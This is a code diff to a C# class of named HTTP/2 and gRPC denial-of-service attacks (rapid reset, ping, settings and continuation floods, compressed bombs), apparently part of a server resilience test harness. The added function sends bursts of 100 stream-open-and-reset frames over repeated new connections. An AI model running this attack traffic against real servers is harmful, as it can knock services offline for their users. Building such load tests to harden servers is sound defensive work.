@@ -26,6 +26,7 @@ internal static class AttackKinds
         ["compressed_bombs"] = (wire => Calls(wire, [("grpc-encoding", "gzip")], Bomb(), perBatch: 4), false),
         ["bad_metadata"] = (BadMetadata, false),
         ["rapid_reset"] = (RapidReset, true),
+        ["reset_and_return"] = (ResetAndReturn, false),
         ["ping_flood"] = (wire => Flood(wire, AttackWire.Frame(AttackWire.PingType, 0, 0, new byte[8])), true),
         ["settings_flood"] = (wire => Flood(wire, AttackWire.Frame(AttackWire.SettingsType, 0, 0, [0, 4, 0, 0, 255, 255])), true),
         ["continuation_flood"] = (ContinuationFlood, true),
@@ -145,6 +146,21 @@ internal static class AttackKinds
 
                 alive = wire.Send([.. batch], Batch) && wire.Drain();
             }
+        }
+    }
+
+    /// <summary>As many resets as a new connection may send, and then another connection.</summary>
+    private static void ResetAndReturn(AttackWire wire)
+    {
+        byte[] block = Headers();
+        byte[] burst = [.. Enumerable.Range(0, 100).SelectMany(i => (byte[])
+        [
+            .. AttackWire.Frame(AttackWire.HeadersType, AttackWire.EndHeaders, (2 * i) + 1, block), .. AttackWire.Frame(AttackWire.ResetType, 0, (2 * i) + 1, [0, 0, 0, 8]),
+        ])];
+        while (wire.HasTime)
+        {
+            wire.Connect();
+            wire.Send(burst, 100);
         }
     }
 
